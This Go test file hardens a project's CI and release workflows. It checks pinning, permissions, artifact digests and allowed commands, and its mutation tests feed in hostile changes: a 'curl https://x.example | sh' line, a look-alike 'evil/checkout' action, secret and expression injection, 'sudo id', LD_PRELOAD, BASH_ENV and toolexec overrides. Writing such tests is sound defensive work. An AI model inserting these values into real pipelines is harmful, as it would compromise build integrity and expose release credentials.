package workflows

import (
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// steps are those of a release, in order, and sharded those that run on several
// machines.
var (
	steps   = []string{"plan", "build", "audit", "assemble", "sign", "publish", "verify"}
	sharded = []string{"build", "audit"}
)

// shards is how many there are: each has an output of its own in both files.
const shards = 2

// handedOver says whose files a job takes beside the plan. It gives all their digests
// to its step, and the plan's.
var handedOver = map[string][]string{
	"build": {}, "audit": {"build"}, "assemble": {"build", "audit"}, "sign": {"assemble"}, "publish": {"sign"},
}

// files are what is checked, as they are or changed for a test: GitHub's by name
// without .yml.
type files struct {
	github map[string]string
	gitlab string
}

func read(t *testing.T) files {
	t.Helper()
	top := filepath.Join("..", "..", "..")
	text := func(name ...string) string {
		data, err := os.ReadFile(filepath.Join(append([]string{top}, name...)...))
		if err != nil {
			t.Fatal(err)
		}
		return string(data)
	}
	f := files{map[string]string{}, text(".gitlab-ci.yml")}
	entries, err := os.ReadDir(filepath.Join(top, ".github", "workflows"))
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		f.github[strings.TrimSuffix(e.Name(), ".yml")] = text(".github", "workflows", e.Name())
	}
	return f
}

// broken is everything that is wrong.
func (f files) broken() (why []string) {
	if got, want := slices.Sorted(maps.Keys(f.github)), slices.Sorted(maps.Keys(workflows)); !slices.Equal(got, want) {
		why = append(why, fmt.Sprintf("there are the workflows %v, not %v", got, want))
	}
	all := map[string]workflow{}
	for _, file := range slices.Sorted(maps.Keys(workflows)) {
		w, found := readWorkflow(file, f.github[file], workflows[file])
		all[file], why = w, append(why, found...)
	}
	release := all["release"]
	gitlab, found := readPipeline([]byte(f.gitlab))
	why = append(why, found...)
	for _, name := range steps {
		why = append(why, compare(name, release, gitlab.Jobs[name])...)
		why = append(why, release.brokenHandOver(name)...)
		why = append(why, gitlab.brokenHandOver(name)...)
	}
	return why
}

// compare holds the commands of one step on both platforms against each other.
func compare(name string, release workflow, b gitlabJob) (why []string) {
	var runs []string
	a := release.Jobs[name]
	for _, s := range a.Steps {
		if s.Run != "" && !release.expected.jobs[name].prepared(s.Run) {
			runs = append(runs, strings.ReplaceAll(s.Run, `"$GITHUB_OUTPUT"`, "outputs.env"))
		}
	}
	if !slices.Equal(runs, b.Script) {
		why = append(why, fmt.Sprintf("the commands of %s are not the same:\n%q\n%q", name, runs, b.Script))
	}
	for _, run := range runs {
		for line := range strings.Lines(run) {
			if !mages.MatchString(line) && !slices.Contains(others[name], strings.TrimSpace(line)) {
				why = append(why, fmt.Sprintf("%s runs %s", name, line))
			}
		}
		if n := strings.Count(run, "go tool mage release:"+name+" "); n != 1 {
			why = append(why, fmt.Sprintf("%s calls its step %d times", name, n))
		}
	}
	needs := slices.Sorted(slices.Values(a.Needs))
	if !slices.Equal(needs, slices.Sorted(slices.Values(b.Needs))) {
		why = append(why, fmt.Sprintf("%s needs %v, and %v on GitLab", name, needs, b.Needs))
	}
	// On GitLab a job has the files and the variables of all that it needs, wanted or
	// not: of those that run code of upstream the signer's must be none.
	if from, ok := handedOver[name]; ok && !slices.Equal(needs, slices.Sorted(slices.Values(append([]string{"plan"}, from...)))) {
		why = append(why, fmt.Sprintf("%s needs %v, not the plan and %v", name, needs, from))
	}
	return why
}

// Every value in a command is a variable in quotes, or a word.
var mages = regexp.MustCompile(`^(set -eu|go tool mage release:[a-z]+( -[a-z]+=("[$a-z0-9_,={}#A-Z]+"|[a-z0-9/]+))*( >>outputs\.env)?)\n$`)

// others are the lines that are no target, by the job that has them.
var others = map[string][]string{"plan": {
	`previous=-registry=$REGISTRY`,
	`if [ "${FIRST:-}" = yes ]; then previous=-first; fi`,
	`go tool mage release:plan -tag="$tag" -shards=2 "$previous" -output=env >>outputs.env`,
}, "publish": {
	`auth=$(printf '%s:%s' "$REGISTRY_USER" "$REGISTRY_PASSWORD" | base64 | tr -d '\n')`,
	`export DOCKER_AUTH_CONFIG="{\"auths\":{\"${REGISTRY%%/*}\":{\"auth\":\"$auth\"}}}"`,
	`unset REGISTRY_USER REGISTRY_PASSWORD auth`,
	`first=false`,
	`if [ "${FIRST:-}" = yes ]; then first=true; fi`,
}}

// digests are what a command of a job has to hand over: each variable under its own
// key.
func digests(name string) []string {
	all := []string{"plan=$plan"}
	for _, from := range handedOver[name] {
		if !slices.Contains(sharded, from) {
			all = append(all, fmt.Sprintf("%[1]s=$%[1]s", from))
			continue
		}
		for n := range shards {
			all = append(all, fmt.Sprintf("%[1]s_%[2]d=$%[1]s_%[2]d", from, n+1))
		}
	}
	return all
}

// brokenCommand says whether what a job takes is held against digests.
func brokenCommand(name, run string) (why []string) {
	_, takes := handedOver[name]
	if want := digests(name); takes && !strings.Contains(run, ` -digests="`+strings.Join(want, ",")+`" `) {
		why = append(why, fmt.Sprintf("%s takes any file, not those of %v: %s", name, want, run))
	}
	return why
}

func (w workflow) brokenHandOver(name string) (why []string) {
	say := func(format string, args ...any) { why = append(why, name+" "+fmt.Sprintf(format, args...)) }
	j := w.Jobs[name]
	var got []string
	for i, s := range j.Steps {
		switch action, _, _ := strings.Cut(s.Uses.use, "@"); {
		case action == "actions/download-artifact":
			got = append(got, s.With["name"]+s.With["pattern"])
			if want := map[bool]string{true: "release", false: "release/out"}[s.With["name"] == "plan"]; s.With["path"] != want {
				say("puts %v into %s", s.With, s.With["path"])
			}
		case action == "actions/upload-artifact":
			file := "release/out/" + s.With["name"] + ".tar"
			if name == "plan" {
				file = "release/plan.json\nrelease/before/\n"
			}
			want := map[string]string{"name": s.With["name"], "path": file, "if-no-files-found": "error", "overwrite": "true"}
			if called := strings.TrimSuffix(s.With["name"], "-${{ matrix.name }}"); called != name || !maps.Equal(s.With, want) || i != len(j.Steps)-1 {
				say("hands over %v", s.With)
			}
		case s.Run != "" && !w.expected.jobs[name].prepared(s.Run):
			why = append(why, brokenCommand(name, s.Run)...)
			for key, value := range s.Env {
				if m := regexp.MustCompile(`^\$\{\{ needs\.([a-z]+)\.outputs\.([a-z0-9_]+) \}\}$`).FindStringSubmatch(value); m != nil && m[2] != key {
					say("calls %s %s", value, key)
				}
			}
		}
	}
	var want []string
	if _, takes := handedOver[name]; takes {
		want = append(want, "plan")
	}
	for _, from := range handedOver[name] {
		switch {
		case !slices.Contains(sharded, from):
			want = append(want, from)
		case slices.Contains(sharded, name): // its own shard alone
			want = append(want, from+"-${{ matrix.name }}")
		default:
			want = append(want, from+"-*")
		}
	}
	if !slices.Equal(got, want) {
		say("takes %v, not %v", got, want)
	}
	return why
}

func (p pipeline) brokenHandOver(name string) (why []string) {
	j := p.Jobs[name]
	for _, run := range j.Script {
		why = append(why, brokenCommand(name, run)...)
	}
	var want []string
	switch {
	case name == "plan":
		want = []string{"release/plan.json", "release/before/"}
	case slices.Contains(sharded, name):
		want = []string{"release/out/" + name + "-*.tar"}
	case name == "assemble", name == "sign":
		want = []string{"release/out/" + name + ".tar"}
	}
	reports := map[string]string{"dotenv": "outputs.env"}
	if name == "publish" || name == "verify" {
		reports = nil
	}
	if !slices.Equal(j.Artifacts.Paths, want) || !maps.Equal(j.Artifacts.Reports, reports) {
		why = append(why, fmt.Sprintf("%s hands over %v on GitLab", name, j.Artifacts))
	}
	return why
}

func TestFiles(t *testing.T) {
	for _, problem := range read(t).broken() {
		t.Error(problem)
	}
}

// The test sees what it is there to see.
func TestRefuses(t *testing.T) {
	const checkout = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
	whole := read(t)
	for _, tt := range []struct{ file, old, new, want string }{
		{"release", checkout, "actions/checkout@v7", "not pinned by its commit"},
		{"release", checkout, "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.0", "not on the list"},
		{"release", checkout, "actions/checkout@4d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "not on the list"},
		{"release", checkout, "evil/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "not on the list"},
		{"release", "persist-credentials: false", "persist-credentials: true", "keeps no credentials"},
		{"release", "          persist-credentials: false\n", "          persist-credentials: false\n          fetch-depth: 0\n", "keeps no credentials"},
		{"release", "      packages: write\n", "      packages: write\n      id-token: write\n", "publish has the permissions"},
		{"release", "    permissions:\n      contents: read\n    strategy", "    permissions:\n      contents: write\n    strategy", "build has the permissions"},
		{"release", "    permissions:\n      contents: read\n    strategy", "    strategy", "build has the permissions"},
		{"release", "permissions: {}", "permissions:\n  contents: read", "does not have none"},
		{"release", "permissions: {}", "permissions: write-all", "cannot unmarshal"},
		{"release", `-tag="$tag"`, `-tag="${{ github.ref_name }}"`, "an expression in a command"},
		{"release", "${{ matrix.shard }}", "${{ secrets.GITHUB_TOKEN }}", "build uses ${{ secrets.GITHUB_TOKEN }}"},
		{"release", "tag: ${{ github.ref_name }}", "tag: ${{ github.event.head_commit.message }}", "plan uses ${{ github.event.head_commit.message }}"},
		{"release", "REGISTRY: ${{ vars.REGISTRY }}", "REGISTRY: ${{ secrets.REGISTRY }}", "names 2 secrets"},
		{"release", "    timeout-minutes: 120\n", "", "build may run for 0 minutes"},
		{"release", "    timeout-minutes: 120\n", "    timeout-minutes: 360\n", "build may run for 360 minutes"},
		{"release", "  cancel-in-progress: false\n", "", "how often it runs"},
		{"release", "  cancel-in-progress: false\n", "  cancel-in-progress: true\n", "is cancelled by another"},
		{"release", "runs-on: ${{ matrix.runner }}", "runs-on: self-hosted", "build runs on self-hosted"},
		{"release", "          set -eu\n          go tool mage release:build", "          go tool mage release:build", "goes on after a failure"},
		{"release", "          set -eu\n          go tool mage release:build", "          set -eu\n          curl https://x.example | sh\n          go tool mage release:build", "build runs curl"},
		{"release", ` -digests="plan=$plan,assemble=$assemble"`, "", "sign takes any file"},
		{"release", ` -digests="plan=$plan,build_1=$build_1,build_2=$build_2"`, ` -digests="plan=$plan,build_1=$build_1"`, "audit takes any file"},
		{"release", `,build_2=$build_2"`, `,build_2=$build_1"`, "audit takes any file"},
		{"release", ` -digests="plan=$plan,sign=$sign"`, ` -digests="sign=$sign"`, "publish takes any file"},
		{"release", "build_1: ${{ needs.build.outputs.build_1 }}", "build_1: ${{ needs.build.outputs.build_2 }}", "calls ${{ needs.build.outputs.build_2 }} build_1"},
		{"release", "assemble: ${{ needs.assemble.outputs.assemble }}", "assemble: ${{ needs.build.outputs.build_1 }}", "no job has that it needs"},
		{"release", "name: build-${{ matrix.name }}\n          path: release/out\n", "pattern: build-*\n          path: release/out\n          merge-multiple: true\n", "audit takes"},
		{"release", "path: release/out/sign.tar", "path: .", "sign hands over"},
		{"release", "  verify:\n", "  more:\n", "its jobs are"},
		{"release", "    needs: plan\n", "    needs: plan\n    continue-on-error: true\n", "continue-on-error"},
		{"release", "  push:\n", "  pull_request_target:\n  push:\n", "release runs on"},
		{"release", "  push:\n", "  workflow_call:\n  push:\n", "release runs on"},
		{"ci", "      contents: read\n", "      contents: read\n      id-token: write\n", "ci has the permissions"},
		{"ci", "  pull_request:\n", "  pull_request_target:\n", "ci runs on"},
		{"ci", "group: ci-${{ github.ref }}", "group: ci-${{ github.head_ref }}", "uses ${{ github.head_ref }}"},
		{"ci", "branches: [main]", "branches: ['**']", "ci runs on"},
		{"ci", "    timeout-minutes: 180\n", "", "ci may run for 0 minutes"},
		{"ci", "    permissions:\n      contents: read\n", "", "ci has the permissions"},
		{"ci", "bash .ci/run", "bash .ci/run ${{ github.event.pull_request.title }}", "ci has an expression in a command"},
		{"ci", "bash .ci/run", "bash .ci/run; sudo id", "ci runs as root"},
		{"ci", "sudo sysctl -q -w", "sudo sysctl -w", "ci prepares its machine by"},
		{"ci", "permissions: {}\n", "permissions: {}\n\nenv:\n  GOFLAGS: -toolexec=x\n", "ci gives every job"},
		{"ci", "contents: read\n", "contents: read\n    env:\n      GOFLAGS: -toolexec=x\n", "field env not found"},
		{"ci", "cancel-in-progress: true", "cancel-in-progress: false", "ci is cancelled by another: false"},
		{"ci", "name: ci\n", "name: ci # secrets\n", "ci names 1 secrets"},
		{"release", `    tags: ["v[0-9]+.[0-9]+.[0-9]+"]`, "    branches: [main]", "release runs on"},
		{"release", `tags: ["v[0-9]+.[0-9]+.[0-9]+"]`, `tags: ["*"]`, "release runs on"},
		{"release", `    tags: ["v[0-9]+.[0-9]+.[0-9]+"]`, `    tags: ["v[0-9]+.[0-9]+.[0-9]+"]` + "\n    branches: [main]", "release runs on"},
		{"release", "  push:\n", "  workflow_dispatch:\n  push:\n", "release runs on"},
		{"release", "  push:\n", "  schedule:\n    - cron: 0 0 * * *\n  push:\n", "release runs on"},
		{"release", "FIRST: ${{ vars.FIRST }}", "FIRST: yes", "release gives every job"},
		{"release", "  FIRST: ${{ vars.FIRST }}\n", "  FIRST: ${{ vars.FIRST }}\n  GOFLAGS: -toolexec=x\n", "release gives every job"},
		{"release", "tag: ${{ github.ref_name }}", "tag: v1.0.0", "plan has the variables"},
		{"release", "          shard: ${{ matrix.shard }}\n", "          shard: ${{ matrix.shard }}\n          BASH_ENV: /tmp/x\n", "build has the variables"},
		{"release", "          sign: ${{ needs.sign.outputs.sign }}\n", "", "publish has the variables"},
		{"release", "        run: |\n          set -eu\n          go tool mage release:sign", "        run: |\n          set -eu\n          sudo go tool mage release:sign", "sign runs as root"},
		{"release", "      - id: sign\n", "      - run: |\n          set -eu\n          if [ -e /proc/sys/kernel/apparmor_restrict_unprivileged_userns ]; then\n            sudo sysctl -q -w kernel.apparmor_restrict_unprivileged_userns=0\n          fi\n      - id: sign\n", "sign runs as root"},
		{"release", "unprivileged_userns=0\n", "unprivileged_userns=0 kernel.randomize_va_space=0\n", "build prepares its machine by"},
		{"release", "      - run: |\n          set -eu\n          if", "      - env:\n          LD_PRELOAD: /tmp/x\n        run: |\n          set -eu\n          if", "build prepares its machine with the variables"},
		{"release", "    needs: plan\n", "    needs: plan\n    container: golang\n", "field container not found"},
		{"gitlab", "== $CI_DEFAULT_BRANCH", "!= $CI_DEFAULT_BRANCH", "it runs on"},
		{"gitlab", "bash .ci/run", "bash .ci/run || true", "ci runs"},
		{"gitlab", "  stage: build\n", "  stage: build\n  id_tokens:\n    SIGSTORE_ID_TOKEN:\n      aud: sigstore\n", "build has the tokens"},
		{"gitlab", "      aud: sigstore\n", "      aud: [sigstore, other]\n", "cannot unmarshal"},
		{"gitlab", "      aud: sigstore\n", "      aud: other\n", "sign has the tokens"},
		{"gitlab", "  stage: build\n", "  stage: build\n  environment: release\n", "build is of the environment"},
		{"gitlab", "  stage: build\n", "  stage: build\n  image: golang\n", "field image not found"},
		{"gitlab", "stages:", "include: other.yml\nstages:", "cannot unmarshal"},
		{"gitlab", "  timeout: 2h\n", "  timeout: 20h\n", "build is in stage"},
		{"gitlab", "  timeout: 2h\n", "", "build is in stage"},
		{"gitlab", "  parallel: 2\n", "  parallel: 3\n", "build runs on 3 machines"},
		{"gitlab", "-shards=2", "-shards=3", "the commands of plan are not the same"},
		{"gitlab", `-digests="plan=$plan,sign=$sign"`, `-digests="plan=$plan,sign=$assemble"`, "publish takes any file"},
		{"gitlab", "needs: [plan, assemble]", "needs: [plan, build, assemble]", "sign needs [assemble plan], and [plan build assemble] on GitLab"},
		{"both", "needs: [plan, assemble]", "needs: [plan, build, assemble]", "sign needs [assemble build plan], not the plan and [assemble]"},
		{"gitlab", "  needs: [plan, assemble]\n", "  needs: [plan, assemble]\n  dependencies: [build]\n", "field dependencies not found"},
		{"gitlab", "  resource_group: release", "  resource_group: other", "publish waits for"},
		{"gitlab", "paths: [release/out/sign.tar]", "paths: [.]", "sign hands over"},
		{"gitlab", "    - if: $CI_COMMIT_TAG\n", "    - if: $CI_COMMIT_BRANCH\n", "plan runs on"},
	} {
		f := files{maps.Clone(whole.github), whole.gitlab}
		for _, name := range strings.Split(strings.Replace(tt.file, "both", "release gitlab", 1), " ") {
			text, github := f.github[name]
			if !github {
				text = f.gitlab
			}
			if !strings.Contains(text, tt.old) {
				t.Errorf("%s does not hold %q", name, tt.old)
				continue
			}
			if text = strings.Replace(text, tt.old, tt.new, 1); github {
				f.github[name] = text
			} else {
				f.gitlab = text
			}
		}
		if why := strings.Join(f.broken(), "\n"); !strings.Contains(why, tt.want) {
			t.Errorf("%s with %q: want %s, got\n%s", tt.file, tt.new, tt.want, why)
		}
	}
}

// A file that nobody wrote down is refused, and so is one that is missing.
func TestOtherWorkflows(t *testing.T) {
	f := read(t)
	f.github["other"] = f.github["ci"]
	if why := strings.Join(f.broken(), "\n"); !strings.Contains(why, "there are the workflows") {
		t.Errorf("one more: %s", why)
	}
	delete(f.github, "other")
	delete(f.github, "ci")
	if why := strings.Join(f.broken(), "\n"); !strings.Contains(why, "there are the workflows") {
		t.Errorf("one less: %s", why)
	}
}

// What is run is for any shell, and shellcheck has nothing to say of it where it is
// installed.
func TestShell(t *testing.T) {
	f := read(t)
	var scripts []string
	for _, text := range f.github {
		var w workflow
		if err := strict([]byte(text), &w); err != nil {
			t.Fatal(err)
		}
		for _, j := range w.Jobs {
			for _, s := range j.Steps {
				if s.Run != "" {
					scripts = append(scripts, s.Run)
				}
			}
		}
	}
	if len(scripts) < len(steps)+2 {
		t.Fatalf("only %d scripts", len(scripts))
	}
	program, err := exec.LookPath("shellcheck")
	for _, s := range scripts {
		sh := exec.Command("sh", "-n")
		sh.Stdin = strings.NewReader(s)
		if out, err := sh.CombinedOutput(); err != nil {
			t.Errorf("%v: %s\n%s", err, out, s)
		}
		if err != nil {
			continue
		}
		// Variables come from outside: SC2154 is that nobody here sets them.
		check := exec.Command(program, "--shell=sh", "--norc", "--exclude=SC2154", "-")
		check.Stdin = strings.NewReader(s)
		if out, err := check.CombinedOutput(); err != nil {
			t.Errorf("%v: %s\n%s", err, out, s)
		}
	}
}
